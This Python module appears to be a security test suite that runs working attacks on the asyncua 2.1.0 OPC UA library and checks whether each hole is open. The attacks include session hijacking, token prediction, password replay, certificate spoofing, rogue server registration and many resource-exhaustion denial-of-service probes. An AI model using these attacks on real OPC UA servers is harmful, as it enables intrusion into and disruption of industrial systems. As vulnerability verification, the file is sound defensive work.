"""The attacks on the holes of asyncua 2.1.0: each is told a target and answers whether the hole is open there.

None is given anything that an attacker could not have. Every one is bounded in number, size and time.
"""

from __future__ import annotations

import asyncio
import contextlib
import math
import struct
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

from asyncua import ua
from asyncua.client.client import Client
from asyncua.crypto.uacrypto import encrypt_rsa15
from asyncua.ua.attribute_ids import AttributeIds
from asyncua.ua.ua_binary import nodeid_from_binary, struct_from_binary, struct_to_binary
from asyncua.ua.uaerrors import UaError
from hole_server import LARGE, PASSWORD, SESSIONS
from hole_target import LATE_PERSON, OTHER, REVOKED, SERVER, STRANGER, TRUSTED, WEAK, Target
from ua_attacker import VALUE, RawClient, activate_request, create_request, node, read_request, write_request

REFUSED = (UaError, ConnectionError, TimeoutError, asyncio.IncompleteReadError)
PATIENCE_S = 20.0
Attack = Callable[[Target], Awaitable[bool]]


@dataclass(frozen=True)
class Hole:
    """One attack; `row` of the table in `docs/security.md`. `spoils`: the bare library is of no use afterwards."""

    row: str
    attack: Attack
    spoils: bool = False

    @property
    def name(self) -> str:
        """The name of the attack."""
        return getattr(self.attack, "__name__", "")


HOLES: list[Hole] = []


def hole(row: str, *, spoils: bool = False) -> Callable[[Attack], Attack]:
    """Enter an attack in the list."""

    def enter(attack: Attack) -> Attack:
        HOLES.append(Hole(row, attack, spoils))
        return attack

    return enter


async def enters(client: Client) -> bool:
    """Whether a client logs in and reads."""
    try:
        async with asyncio.timeout(PATIENCE_S), client:
            await client.get_node(node(2259)).read_value()
    except REFUSED:
        return False
    return True


async def accepted(client: RawClient, request: Any) -> Any:
    """The response to a request, or None when it was a fault or the end of the connection."""
    try:
        answer = await client.ask(request, PATIENCE_S)
    except (*REFUSED, AssertionError):
        return None
    return None if isinstance(answer, ua.ServiceFault) else answer


async def ended(target: Target, client: RawClient) -> bool:
    """Whether the server ends a connection."""
    reading = asyncio.create_task(client.closed(PATIENCE_S * 2))
    done = await finishes(target, reading, 50) and reading.result()
    client.writer.transport.abort()
    return done


async def finishes(target: Target, task: asyncio.Task[Any], ticks: int) -> bool:
    """Whether a task is done before the server's timer has fired so often; it is cancelled otherwise."""

    async def done() -> bool:
        return task.done()

    finished = await target.within(ticks, done)
    task.cancel()
    return finished


def altered(client: Any, call: str, change: Callable[[Any], None]) -> None:
    """Let a client change the parameters of one of its calls on the way."""
    send = getattr(client.uaclient, call)

    async def changed(params: Any) -> Any:
        change(params)
        return await send(params)

    setattr(client.uaclient, call, changed)


def subscription(interval: float = 50.0, lifetime: int = 1000, keep_alive: int = 100) -> ua.CreateSubscriptionRequest:
    """CreateSubscription."""
    request = ua.CreateSubscriptionRequest()
    request.Parameters.RequestedPublishingInterval = ua.Double(interval)
    request.Parameters.RequestedLifetimeCount = ua.UInt32(lifetime)
    request.Parameters.RequestedMaxKeepAliveCount = ua.UInt32(keep_alive)
    request.Parameters.PublishingEnabled = True
    return request


def items(subscription_id: int, **parameters: Any) -> ua.CreateMonitoredItemsRequest:
    """Monitor VALUE."""
    request = ua.CreateMonitoredItemsRequest()
    request.Parameters.SubscriptionId = ua.UInt32(subscription_id)
    item = ua.MonitoredItemCreateRequest()
    item.ItemToMonitor.NodeId = VALUE
    item.ItemToMonitor.AttributeId = AttributeIds.Value
    item.MonitoringMode = ua.MonitoringMode.Reporting
    for name, value in parameters.items():
        setattr(item.RequestedParameters, name, value)
    request.Parameters.ItemsToCreate = [item]
    return request


@hole("session theft")
async def stolen_session(target: Target) -> bool:
    """Activate a victim's session with a signature of zeros, then write with his rights."""
    async with await target.client() as victim:
        thief: Any = await target.client(OTHER)
        await thief.connect_socket()
        try:
            await thief.send_hello()
            await thief.open_secure_channel()
            thief.uaclient.session.restore_authentication_token(victim.uaclient.session.authentication_token)
            request = activate_request()
            request.Parameters.ClientSignature.Signature = bytes(256)
            with contextlib.suppress(*REFUSED):
                await thief.uaclient.activate_session(request.Parameters)
            await thief.get_node(VALUE).write_value(ua.DataValue(ua.Variant(666.0)))
        except REFUSED:
            return False
        finally:
            thief.disconnect_socket()
        return bool(await victim.get_node(VALUE).read_value() == 666.0)


@hole("session theft")
async def foreseen_token(target: Target) -> bool:
    """Tell from one's own token what the next client's will be; after a restart they begin anew."""
    mine, next_one = [(await (await RawClient.open(target.port)).create_session()).AuthenticationToken for _ in "12"]
    return isinstance(mine.Identifier, int) and next_one.Identifier == mine.Identifier + 1


@hole("unsecured channels")
async def unsecured_session(target: Target) -> bool:
    """Log in without security where only encrypted endpoints are configured, and write."""
    client = await RawClient.open(target.careful)
    created = await accepted(client, create_request())
    if created is None:
        return False
    client.auth = created.Parameters.AuthenticationToken
    request = activate_request()
    token = ua.UserNameIdentityToken()
    token.UserName, token.Password = "olga", PASSWORD.encode()
    request.Parameters.UserIdentityToken = token
    if await accepted(client, request) is None:
        return False
    written = await accepted(client, write_request(5.0))
    return written is not None and written.Results[0].is_good()


@hole("channel certificate")
async def unlisted_certificate(target: Target) -> bool:
    """Open a channel with a certificate that nobody trusts, and leave it out of CreateSession."""
    client = await target.client(STRANGER)

    def nothing(params: Any) -> None:
        params.ClientCertificate = None

    altered(client, "create_session", nothing)
    return await enters(client)


@hole("channel certificate")
async def borrowed_certificate(target: Target) -> bool:
    """Open a channel with one's own certificate, and show a trusted one in CreateSession."""
    client = await target.client(STRANGER)

    def another(params: Any) -> None:
        params.ClientCertificate = TRUSTED.der

    altered(client, "create_session", another)
    return await enters(client)


@hole("default user")
async def any_password_is_admins(target: Target) -> bool:
    """Be "admin" with any password, and create nodes."""
    client = await target.client(name="admin", careful=False)
    client.set_password("whatever comes to mind")
    try:
        async with client:
            await client.nodes.objects.add_variable(node("planted", 2), "Planted", 1.0)
    except REFUSED:
        return False
    return True


@hole("tokens and registration")
async def registered_server(target: Target) -> bool:
    """Plant a server in everybody's FindServers, without a session."""
    client = await RawClient.open(target.port)
    request = ua.RegisterServerRequest()
    request.Server.ServerUri = "urn:evil"
    request.Server.DiscoveryUrls = ["opc.tcp://127.0.0.1:1"]
    request.Server.ServerNames = [ua.LocalizedText("evil")]
    if await accepted(client, request) is None:
        return False
    return any(s.ApplicationUri == "urn:evil" for s in (await client.ask(ua.FindServersRequest())).Servers)


@hole("tokens and registration")
async def uncompared_token(target: Target) -> bool:
    """Read with another token than the session's."""
    client = await RawClient.login(target.port)
    client.auth = node(4711)
    return await accepted(client, read_request(VALUE)) is not None


@hole("tokens and registration")
async def foreign_subscription(target: Target) -> bool:
    """Delete another session's subscription."""
    owner, other = await RawClient.login(target.port), await RawClient.login(target.port)
    created = await owner.ask(subscription())
    request = ua.DeleteSubscriptionsRequest()
    request.Parameters.SubscriptionIds = [created.Parameters.SubscriptionId]
    answer = await accepted(other, request)
    return answer is not None and answer.Results[0].is_good()


@hole("passwords")
async def replayed_password(target: Target) -> bool:
    """Enter with a recorded token of somebody else's login."""
    recorded = []
    honest = await target.client()
    altered(honest, "activate_session", lambda params: recorded.append(params.UserIdentityToken.Password))
    assert await enters(honest)
    thief = await target.client(OTHER, name="olga")

    def replay(params: Any) -> None:
        params.UserIdentityToken.Password = recorded[0]

    altered(thief, "activate_session", replay)
    return await enters(thief)


@hole("passwords")
async def weaker_wrapping(target: Target) -> bool:
    """Wrap the password with RSA 1.5, whatever the policy says."""
    client: Any = await target.client()
    wrap: Any = encrypt_rsa15

    def rsa15(params: Any) -> None:
        secret = ua.ua_binary.Primitives.Bytes.pack(PASSWORD.encode() + client._server_nonce)
        params.UserIdentityToken.Password = wrap(SERVER.certificate.public_key(), secret)
        params.UserIdentityToken.EncryptionAlgorithm = "http://www.w3.org/2001/04/xmlenc#rsa-1_5"

    altered(client, "activate_session", rsa15)
    return await enters(client)


@hole("passwords")
async def clear_password(target: Target) -> bool:
    """Send the password in clear text on an endpoint whose policy says otherwise."""
    client = await RawClient.open(target.port)
    await client.create_session()
    request = activate_request()
    token = ua.UserNameIdentityToken()
    token.PolicyId, token.UserName, token.Password = "username", "olga", PASSWORD.encode()
    endpoints = (await client.ask(ua.GetEndpointsRequest())).Endpoints
    for policy in (t for e in endpoints for t in e.UserIdentityTokens if t.TokenType == ua.UserTokenType.UserName):
        token.PolicyId = policy.PolicyId
    request.Parameters.UserIdentityToken = token
    return await accepted(client, request) is not None


@hole("passwords")
async def expired_user_certificate(target: Target) -> bool:
    """Be a user by a certificate that has expired."""
    return await enters(await target.client(person=LATE_PERSON))


@hole("guessing")
async def unlimited_guessing(target: Target) -> bool:
    """Guess as often as one likes, and be let in at once by the right password."""
    for number in range(4):
        client = await target.client(OTHER, name="guessed")
        client.set_password(f"guess number {number}")
        assert not await enters(client)
    return await enters(await target.client(OTHER, name="guessed"))


@hole("guessing")
async def hashing_on_the_loop(target: Target) -> bool:
    """Make the server look at passwords on its event loop, where nobody else is served meanwhile."""
    client = await target.client(name="otto")
    assert not await enters(client)
    await enters(await target.client())
    on_loop = await target.ask("hashing")
    assert on_loop is not None
    return bool(on_loop)


@hole("declared sizes")
async def giant_claim(target: Target) -> bool:
    """Declare a message of 2 GiB, and send 24 MiB of it before anybody knows who one is."""
    client = await RawClient.connect(target.port)
    before = target.memory()
    client.send(b"HELF" + struct.pack("<I", 0x7FFF_FFFF))
    with contextlib.suppress(ConnectionError):
        for _ in range(24):
            client.send(bytes(1 << 20))
            await client.writer.drain()
    return not await ended(target, client) and target.memory() - before > 16 << 20


@hole("declared sizes")
async def busy_publishing(target: Target) -> bool:
    """A publishing interval of a microsecond."""
    client = await RawClient.login(target.port)
    created = await accepted(client, subscription(interval=0.001, keep_alive=1))
    if created is None:
        return False
    interval: float = created.Parameters.RevisedPublishingInterval
    request = ua.DeleteSubscriptionsRequest()
    request.Parameters.SubscriptionIds = [created.Parameters.SubscriptionId]
    await accepted(client, request)
    return interval < 1.0


@hole("channel lifetime")
async def endless_channel(target: Target) -> bool:
    """A channel whose keys are good for 49 days."""
    client = await RawClient.connect(target.port)
    await client.hello()
    return await client.open_channel(0xFFFF_FFFF) > 86_400_000


@hole("timers", spoils=True)
async def stopped_timers(target: Target) -> bool:
    """Sessions with a timeout of NaN, until the timers of the process come late or not at all."""
    clients = []
    revised = []
    for _ in range(40):
        client = await RawClient.open(target.port)
        revised.append((await client.create_session(math.nan)).RevisedSessionTimeout)
        with contextlib.suppress(*REFUSED):
            await client.activate()
        clients.append(client)
    before = await target.ask("ticks")
    await asyncio.sleep(1.0)
    late = await target.ask("ticks") - before
    for client in clients:
        await client.close()
    return any(map(math.isnan, revised)) and late < 25


@hole("messages before their time")
async def message_before_hello(target: Target) -> bool:
    """A request as the first bytes of a connection."""
    client = await RawClient.connect(target.port)
    return await accepted(client, ua.GetEndpointsRequest()) is not None


def events(subscription_id: int, operand: ua.SimpleAttributeOperand) -> ua.CreateMonitoredItemsRequest:
    """Monitor the Server's events with one select clause."""
    request = items(subscription_id, QueueSize=10)
    (item,) = request.Parameters.ItemsToCreate
    item.ItemToMonitor.NodeId = node(2253)
    item.ItemToMonitor.AttributeId = AttributeIds.EventNotifier
    chosen = ua.EventFilter()
    chosen.SelectClauses = [operand]
    item.RequestedParameters.Filter = chosen
    return request


def clause(attribute: int = AttributeIds.Value, path: list[ua.QualifiedName] | None = None) -> Any:
    """A select clause of BaseEventType."""
    made = ua.SimpleAttributeOperand()
    made.TypeDefinitionId = node(2041)
    made.AttributeId = ua.UInt32(attribute)
    made.BrowsePath = path  # type: ignore[assignment]  # null, which is what open62541 sends for an empty one
    return made


async def events_stop(target: Target, poison: ua.SimpleAttributeOperand) -> bool:
    """Whether one client's select clause keeps another's event from being delivered."""
    spoiler, honest = await RawClient.login(target.port), await RawClient.login(target.port)
    number = (await spoiler.ask(subscription())).Parameters.SubscriptionId
    await accepted(spoiler, events(number, poison))
    created = await honest.ask(subscription())
    await honest.ask(events(created.Parameters.SubscriptionId, clause(path=[ua.QualifiedName("Message")])))
    raised = await target.ask("event")
    request = ua.DeleteSubscriptionsRequest()
    request.Parameters.SubscriptionIds = [number]
    await accepted(spoiler, request)
    if raised:
        return True
    while True:
        answer = await honest.ask(ua.PublishRequest(), PATIENCE_S)
        if answer.Parameters.NotificationMessage.NotificationData:
            await honest.close()
            return False


@hole("one filter stops all events")
async def unknown_attribute(target: Target) -> bool:
    """Select an attribute that does not exist."""
    return await events_stop(target, clause(attribute=4711, path=[]))


@hole("one filter stops all events")
async def null_path(target: Target) -> bool:
    """Select a null path: some clients send it for an empty one without meaning harm."""
    return await events_stop(target, clause())


@hole("null arrays")
async def null_array(target: Target) -> bool:
    """110 bytes that claim millions of elements of the empty type."""
    client = await RawClient.login(target.port)
    before = target.memory("VmHWM")
    request = ua.WriteRequest()
    request.RequestHeader.AuthenticationToken = client.auth
    variant = b"\x80" + struct.pack("<i", 12_000_000)
    item = b"\x00\x00" + struct.pack("<I", 13) + struct.pack("<i", -1) + b"\x01" + variant
    client.send(client.chunk(b"MSG", struct_to_binary(request)[:-4] + struct.pack("<i", 1) + item))
    with contextlib.suppress(*REFUSED):
        await client.response(PATIENCE_S)
    return target.memory("VmHWM") - before > 24 << 20


@hole("sessions of one connection")
async def left_sessions(target: Target) -> bool:
    """Create sessions, activate none, hang up: what stays takes others' places."""
    client = await RawClient.open(target.port)
    before = await target.ask("sessions")
    for _ in range(20):
        await accepted(client, create_request())
    await client.close()

    async def gone() -> bool:
        return bool(await target.ask("sessions") - before <= 1)

    return not await target.within(50, gone)


@hole("sessions of one connection")
async def first_session_lost(target: Target) -> bool:
    """Open a second session on a channel and close it: the first, which is in use, is gone too."""
    client = await RawClient.login(target.port)
    first = client.auth
    created = await accepted(client, create_request())
    if created is not None:
        client.auth = created.Parameters.AuthenticationToken
        await client.activate()
        await accepted(client, ua.CloseSessionRequest())
    client.auth = first
    return await accepted(client, read_request(VALUE)) is None


@hole("sessions of one connection")
async def neighbours_sessions(target: Target) -> bool:
    """Take all sessions of one server: another one in the same process counts them as its own."""
    await all_sessions(target)
    return not await enters(await target.client())


@hole("sessions of one connection", spoils=True)
async def all_sessions(target: Target) -> bool:
    """Activate session after session on one connection, until nobody else gets one."""
    client = await RawClient.open(target.port)
    for _ in range(SESSIONS + 1):
        created = await accepted(client, create_request())
        if created is None:
            break
        client.auth = created.Parameters.AuthenticationToken
        if await accepted(client, activate_request()) is None:
            break
    newcomer = await RawClient.open(target.port)
    await newcomer.create_session()
    return await accepted(newcomer, activate_request()) is None


@hole("items and subscriptions")
async def endless_queue(target: Target) -> bool:
    """A monitored item that keeps four thousand million values, by a detour over Modify."""
    client = await RawClient.login(target.port)
    created = await client.ask(subscription())
    number = created.Parameters.SubscriptionId
    made = await client.ask(items(number, QueueSize=ua.UInt32(1)))
    request = ua.ModifyMonitoredItemsRequest()
    request.Parameters.SubscriptionId = number
    change = ua.MonitoredItemModifyRequest()
    change.MonitoredItemId = made.Results[0].MonitoredItemId
    change.RequestedParameters.QueueSize = ua.UInt32(0xFFFF_FFFF)
    request.Parameters.ItemsToModify = [change]
    changed = await accepted(client, request)
    return changed is not None and changed.Results[0].RevisedQueueSize > 1_000_000


@hole("items and subscriptions")
async def nonsense_intervals(target: Target) -> bool:
    """Sampling and publishing intervals that are no time at all."""
    client = await RawClient.login(target.port)
    created = await client.ask(subscription())
    number = created.Parameters.SubscriptionId
    for wanted in (math.nan, 1e300):
        made = await accepted(client, items(number, SamplingInterval=ua.Double(wanted)))
        if made is not None and made.Results[0].StatusCode.is_good():
            revised = made.Results[0].RevisedSamplingInterval
            if math.isnan(revised) or revised > 1e9:
                return True
    for wanted in (-5.0, 1e300):
        client = await RawClient.login(target.port)
        made = await accepted(client, subscription(interval=wanted))
        if made is not None and not 0 < made.Parameters.RevisedPublishingInterval < 1e9:
            return True
    return False


@hole("items and subscriptions")
async def all_subscriptions(target: Target) -> bool:
    """One session that takes as many subscriptions as it likes."""
    client = await RawClient.login(target.port)
    for _ in range(200):
        if await accepted(client, subscription(interval=10_000.0)) is None:
            return False
    await client.close()
    return True


@hole("items and subscriptions")
async def orphan(target: Target) -> bool:
    """A subscription that outlives its client by months."""
    client = await RawClient.login(target.port)
    created = (await client.ask(subscription(interval=86_400_000.0, lifetime=0xFFFF_FFFF))).Parameters
    return bool(created.RevisedPublishingInterval * created.RevisedLifetimeCount / 1000 > 30 * 86_400)


@hole("output and unfinished messages")
async def deaf_reader(target: Target) -> bool:
    """Ask for much and read nothing."""
    client = await RawClient.login(target.port)
    client.writer.transport.pause_reading()  # type: ignore[attr-defined]  # a socket's transport can
    before = target.memory()
    for _ in range(64):
        client.send(client.message(read_request(*[LARGE] * 10)))

    async def grown() -> bool:
        return target.memory() - before >= 32 << 20

    swollen = await target.within(100, grown)
    client.writer.transport.abort()
    return swollen


@hole("output and unfinished messages")
async def endless_message(target: Target) -> bool:
    """16 MiB of one message, which has no end, from a client without a session."""
    client = await RawClient.open(target.port)
    with contextlib.suppress(ConnectionError):
        for _ in range(256):
            client.send(client.chunk(b"MSG", bytes(65_000), b"C", keep_request=True))
            await client.writer.drain()
    return not await ended(target, client)


@hole("transferred subscriptions")
async def lost_transfer(target: Target) -> bool:
    """Take one's subscription to a new session: what it has to tell still goes to the old one, or nowhere."""
    async with await target.client() as old, await target.client() as new:
        created = await sent(old, subscription(keep_alive=1000))
        number = created.Parameters.SubscriptionId
        await sent(old, items(number))
        request = ua.TransferSubscriptionsRequest()
        request.Parameters.SubscriptionIds = [number]
        moved = await sent(new, request)
        assert moved.Parameters.Results[0].StatusCode.is_good()
        publishing = asyncio.create_task(sent(new, ua.PublishRequest()))
        await new.get_node(VALUE).write_value(ua.DataValue(ua.Variant(7.25)))
        return not await finishes(target, publishing, 100)


async def sent(client: Client, request: Any) -> Any:
    """What the server answers to a request that the library's client would not send like this."""
    assert client.uaclient.protocol is not None
    data = await client.uaclient.protocol.send_request(request)
    typeid = nodeid_from_binary(data.copy())
    return struct_from_binary(ua.extension_objects_by_typeid[typeid], data)


@hole("revocation and strength")
async def revoked_certificate(target: Target) -> bool:
    """Enter with a certificate that its authority has revoked, in a list named `root.crl`."""
    return await enters(await target.client(REVOKED))


@hole("revocation and strength")
async def weak_certificate(target: Target) -> bool:
    """Enter with a key of 1024 bits, which can be broken."""
    return await enters(await target.client(WEAK))


@hole("unoffered policy")
async def silence(target: Target) -> bool:
    """Ask for a policy that is not offered: an honest client must learn why it does not get in."""
    client = await RawClient.connect(target.port)
    await client.hello()
    header = ua.AsymmetricAlgorithmHeader()
    header.SecurityPolicyURI = ua.String("http://opcfoundation.org/UA/SecurityPolicy#Nonsense")
    client.send(client.chunk(b"OPN", bytes(132), security=struct_to_binary(header)))
    answer = asyncio.create_task(client.receive(PATIENCE_S * 2))
    finished = await finishes(target, answer, 50)
    told = finished and answer.exception() is None and answer.result()[0] == b"ERR"
    await client.close()
    return not told


@hole("certificate without security")
async def refused_for_a_certificate(target: Target) -> bool:
    """Refuse an honest client that shows its certificate on an endpoint without security, where none counts."""
    for port in (target.careful, target.port):
        if await accepted(await RawClient.open(port), create_request()) is not None:
            shown = create_request(ClientCertificate=STRANGER.der)
            return await accepted(await RawClient.open(port), shown) is None
    raise AssertionError("no sessions without security at all")
